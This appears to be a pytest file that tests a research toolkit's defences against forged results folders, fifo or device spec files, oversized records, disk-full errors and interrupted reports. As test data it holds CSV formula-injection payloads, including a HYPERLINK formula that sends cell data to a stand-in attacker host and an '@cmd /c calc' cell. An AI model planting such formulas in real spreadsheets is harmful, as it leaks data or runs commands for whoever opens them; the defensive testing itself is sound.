"""Attacks on what the toolkit reads and the tables it writes (issue 25, classes 3, 5, 6 and 9).

Each test performs the attack: formula cells and table-breaking labels planted in a results
folder from elsewhere, a spec that is a fifo or a device, records of hundreds of megabytes
(sparse files, so nothing large is written), a run whose bookkeeping fails, a full disk,
and a report cut short half-way.
"""

from __future__ import annotations

import csv
import dataclasses
import errno
import hashlib
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from kinds_for_tests import KIND as CLOSED_FORM
from kinds_for_tests import write_spec

from manifold_lab import cli, io
from manifold_lab.errors import UsageError
from manifold_lab.execution import one_run
from manifold_lab.execution.one_run import execute_run
from manifold_lab.kinds import register
from manifold_lab.reporting import report as report_module
from manifold_lab.reporting.report import write_report
from manifold_lab.reproduction.records import csv_rows
from manifold_lab.spec.load import load_spec
from manifold_lab.spec.sweep import plan

register(CLOSED_FORM)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
OUTPUTS = ("report.md", "summary.csv", "comparisons.csv", "finals.csv", "curves.csv")


def forge(root: Path, labels: list[str], seeds=(0, 1, 2), failed_error: str | None = None) -> Path:
    """A results folder written by hand, as someone else could: swept ``labels``, done runs with a
    negative metric, an epoch log whose metric name is a formula, and optionally a failed run."""
    runs = []
    for i, (label, seed) in enumerate((lab, s) for lab in labels for s in seeds):
        run_id = f"r{i:03d}"
        runs.append({"index": i, "run_id": run_id, "seed": seed, "params": {"act": label},
                     "sweep_values": {"act": label}})
        run_dir = root / "runs" / run_id
        run_dir.mkdir(parents=True)
        if failed_error is not None and i == 0:
            (run_dir / "status.json").write_text(json.dumps({"status": "failed", "error": failed_error, "metrics": {}}))
            continue
        data = (json.dumps({"score": i - 0.5, "@SUM(A1)": 1.0}) + "\n").encode()
        (run_dir / "metrics.json").write_bytes(data)
        (run_dir / "status.json").write_text(json.dumps(
            {"status": "done", "error": None, "metrics_sha256": hashlib.sha256(data).hexdigest()}))
        (run_dir / "metrics.jsonl").write_text(json.dumps({"epoch": 1, "+cmd|x": -0.25}) + "\n")
    (root / "spec.yaml").write_text(json.dumps(
        {"name": "forged", "kind": "not_installed", "params": {}, "sweep": {"act": labels, "seeds": list(seeds)}}))
    (root / "plan.json").write_text(json.dumps({"runs": runs}))
    return root


def csv_cells(path: Path) -> list[str]:
    with open(path, newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def assert_no_formula(path: Path) -> None:
    """No cell of the CSV file starts a formula, except numbers (-0.5 stays a number)."""
    for cell in csv_cells(path):
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # a genuine number, else ValueError: a formula left as it is


def table_widths(markdown: str) -> list[int]:
    """The number of cells of every table row (pipes not escaped by a backslash)."""
    widths = []
    for line in markdown.splitlines():
        if line.startswith("|"):
            cells, escaped = 1, False
            for ch in line.strip()[1:-1]:
                cells += ch == "|" and not escaped
                escaped = ch == "\\" and not escaped
            widths.append(cells)
    return widths


# --------------------------------------------------------------------------- 3. formula and table injection


def test_formula_cells_in_labels_params_metrics_and_errors_are_neutralised(tmp_path):
    root = forge(tmp_path / "r", [FORMULA, "-2+3", "relu"], failed_error="@cmd /c calc")
    write_report(root)
    for name in OUTPUTS[1:]:
        assert_no_formula(root / name)
    finals = list(csv.DictReader(open(root / "finals.csv", newline="")))
    assert finals[0]["error"] == "'@cmd /c calc"
    assert finals[1]["act"] == "'" + FORMULA and finals[1]["score"] == "0.5"
    assert finals[4]["act"] == "'-2+3"
    assert "-0.5" not in [row["score"] for row in finals]  # run 0 failed; its -0.5 is absent, not prefixed
    assert "'@SUM(A1)" in open(root / "finals.csv").readline()  # a metric name from metrics.json, in the header
    curves = list(csv.DictReader(open(root / "curves.csv", newline="")))
    assert {row["metric"] for row in curves} == {"'+cmd|x"} and {row["value"] for row in curves} == {"-0.25"}
    summary = csv_cells(root / "summary.csv")
    assert "'" + FORMULA in summary and "relu" in summary


def test_negative_numbers_stay_numbers_and_every_writer_neutralises(tmp_path):
    assert io.csv_text([{"a": -0.5, "b": "-0.5", "c": "-1e-3", "d": "-x", "e": "\tcmd", "f": "+inf"}],
                       list("abcdef")) == "a,b,c,d,e,f\n-0.5,-0.5,-1e-3,'-x,'\tcmd,+inf\n"
    from manifold_lab.probe.output import csv_text as probe_csv

    text = probe_csv([{"label": "=1+1", "stage": "trained", "source": "s", "records": [{"block": -1, "name": "@x"}]}])
    assert text.splitlines()[1] == "'=1+1,trained,s,-1,'@x"


def test_a_pipe_or_newline_in_a_label_does_not_break_the_report_tables(tmp_path):
    labels = ["a|b", "two\nlines", "back\\|slash", "ok"]
    root = forge(tmp_path / "r", labels, failed_error="boom | with a pipe\nand a second line")
    write_report(root)
    text = (root / "report.md").read_text()
    lines = text.splitlines()
    assert "two lines" in text and "two\nlines" not in text
    assert "a\\|b" in text and "back\\\\\\|slash" in text
    # every table keeps the width of its header row: no label adds or splits a cell
    start = 0
    while start < len(lines):
        if lines[start].startswith("|"):
            end = start
            while end < len(lines) and lines[end].startswith("|"):
                end += 1
            widths = table_widths("\n".join(lines[start:end]))
            assert len(set(widths)) == 1, lines[start:end]
            start = end
        start += 1
    assert io.md_cell("x|y\r\nz\\") == "x\\|y z\\\\"


# --------------------------------------------------------------------------- 5. hangs and unbounded reads


def cli_run(*args: str, cwd: Path, timeout: float = 60) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "manifold_lab", *args], cwd=cwd, capture_output=True, text=True,
                          timeout=timeout)


def one_line_error(proc: subprocess.CompletedProcess, *fragments: str) -> None:
    assert proc.returncode == 2, proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in proc.stderr, proc.stderr
    for fragment in fragments:
        assert fragment in lines[0], lines[0]


def test_a_fifo_spec_with_dry_run_is_refused_at_once(tmp_path):
    os.mkfifo(tmp_path / "s.yaml")  # no writer: opening it for reading would block forever
    started = time.monotonic()
    one_line_error(cli_run("run", "s.yaml", "--dry-run", cwd=tmp_path), "s.yaml", "not a regular file")
    assert time.monotonic() - started < 30
    assert sorted(p.name for p in tmp_path.iterdir()) == ["s.yaml"]  # nothing written


def test_a_device_as_a_spec_directly_or_through_a_link_is_refused(tmp_path):
    (tmp_path / "d.yaml").symlink_to("/dev/urandom")  # an endless file: read to its end it exhausts memory
    for spec in ("/dev/zero", "d.yaml"):
        one_line_error(cli_run("run", spec, "--dry-run", cwd=tmp_path), spec, "not a regular file")


def test_a_spec_larger_than_the_limit_is_refused_by_the_bytes_read(tmp_path, monkeypatch):
    spec = tmp_path / "big.yaml"
    with open(spec, "wb") as f:
        f.truncate(300 << 20)  # sparse: nothing is written
    with pytest.raises(UsageError, match="1,048,576"):
        load_spec(spec)
    # the bound holds on the bytes actually read, whatever st_size says
    monkeypatch.setattr(os, "fstat", lambda fd, real=os.fstat: os.stat_result((*real(fd)[:6], 10, *real(fd)[7:])))
    with pytest.raises(UsageError, match="the limit for a spec file"):
        io.read_bytes(spec, limit=1 << 20, what="a spec file")


@pytest.mark.parametrize("record", ["metrics.jsonl", "status.json", "provenance.json"])
def test_an_oversized_record_is_refused_before_it_is_read_and_nothing_is_written(tmp_path, record):
    root = forge(tmp_path / "r", ["relu", "identity"])
    with open(root / "runs" / "r001" / record, "wb") as f:
        f.truncate(300 << 20)  # the 300 MB metrics.jsonl that took 7 GB, as a sparse file
    with pytest.raises(UsageError) as info:
        write_report(root)
    message = str(info.value)
    assert f"r001/{record}" in message and f"{io.MAX_RECORD_BYTES:,} bytes" in message and "\n" not in message
    assert not any((root / name).exists() for name in OUTPUTS)


def test_report_and_claims_refuse_an_oversized_plan_or_csv(tmp_path):
    root = forge(tmp_path / "r", ["relu"])
    with open(root / "plan.json", "ab") as f:
        f.truncate(300 << 20)
    one_line_error(cli_run("report", str(root), cwd=tmp_path), "plan.json", "134,217,728 bytes")
    big = tmp_path / "theorem1.csv"
    with open(big, "wb") as f:
        f.truncate(300 << 20)
    with pytest.raises(UsageError, match="16,777,216 bytes"):
        csv_rows(big)
    os.mkfifo(tmp_path / "fifo.csv")
    with pytest.raises(UsageError, match="not a regular file"):
        csv_rows(tmp_path / "fifo.csv")


# --------------------------------------------------------------------------- 6. a run never stays "running"


def planned_run(tmp_path: Path):
    spec = load_spec(write_spec(tmp_path / "c.yaml", """\
        name: c
        kind: closed_form
        params: {a: 2.0}
        sweep:
          seeds: [0]
        """))
    return spec, plan(spec)[0]


def status_of(root: Path, run) -> dict:
    return json.loads((root / "runs" / run.run_id / "status.json").read_text())


def test_a_failure_writing_provenance_fails_the_run_with_the_reason(tmp_path, monkeypatch):
    spec, run = planned_run(tmp_path)

    def broken(run_dir, record):
        raise TypeError("Object of type bytes is not JSON serializable")

    monkeypatch.setattr(one_run, "write_provenance", broken)
    status, error = execute_run(spec.kind, run, tmp_path / "out", "c")
    assert status == "failed" and "recording the outcome failed" in error and "JSON serializable" in error
    assert status_of(tmp_path / "out", run) == {"status": "failed", "error": error, "seconds": pytest.approx(0, abs=60),
                                                "metrics": {}}


def test_a_failure_writing_metrics_json_does_not_leave_done_or_running(tmp_path, monkeypatch):
    spec, run = planned_run(tmp_path)
    real = io.write_bytes

    def failing(path, data):
        if Path(path).name == "metrics.json":
            raise OSError(errno.EIO, "Input/output error", str(path))
        return real(path, data)

    monkeypatch.setattr(io, "write_bytes", failing)
    status, error = execute_run(spec.kind, run, tmp_path / "out", "c")
    record = status_of(tmp_path / "out", run)
    assert status == record["status"] == "failed" and "Input/output error" in record["error"]
    assert not (tmp_path / "out" / "runs" / run.run_id / "metrics.json").exists()


# --------------------------------------------------------------------------- 9. a full disk; the report as a set


def test_a_full_disk_in_a_run_is_one_line_naming_the_folder(tmp_path):
    spec, run = planned_run(tmp_path)

    def full(params, seed, ctx):  # what torch.save in a checkpoint raises, through a Python file
        with io.atomic_path(ctx.run_dir / "checkpoint.pt") as tmp:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    status, error = execute_run(dataclasses.replace(spec.kind, run=full), run, tmp_path / "out", "c")
    run_dir = tmp_path / "out" / "runs" / run.run_id
    assert status == "failed" and error.startswith(f"the disk is full (no space left writing in {run_dir})")
    assert "resumes" in error and status_of(tmp_path / "out", run)["error"] == error
    assert [p.name for p in run_dir.iterdir() if p.name.startswith(".checkpoint")] == []  # no temporary left


def test_a_full_disk_reaching_the_command_line_is_one_line(tmp_path, monkeypatch, capsys):
    root = forge(tmp_path / "r", ["relu"])

    def full(root, kind=None):
        try:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(Path(root) / "figures" / "x.png"))
        except OSError as exc:  # torch wraps it in its own error
            raise RuntimeError("[enforce fail at inline_container.cc:603] . unexpected pos 64 vs 0") from exc

    monkeypatch.setattr(report_module, "write_report", full)
    assert cli.main(["report", str(root)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "inline_container" not in err
    assert f"the disk is full (no space left writing in {root / 'figures'})" in err


def test_a_report_cut_short_leaves_the_previous_outputs_as_a_set(tmp_path, monkeypatch):
    root = forge(tmp_path / "r", ["relu", "identity"])
    write_report(root)
    before = {name: (root / name).read_bytes() for name in OUTPUTS}
    (root / "runs" / "r001" / "status.json").unlink()  # the next report would differ (one run fewer)

    def broken(agg):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(report_module, "_provenance_lines", broken)  # after the CSV files, before report.md
    with pytest.raises(OSError):
        write_report(root)
    assert {name: (root / name).read_bytes() for name in OUTPUTS} == before
    assert [p.name for p in root.iterdir() if p.name.startswith(".")] == []  # no staging folder left
    monkeypatch.undo()
    write_report(root)
    assert (root / "summary.csv").read_bytes() != before["summary.csv"]
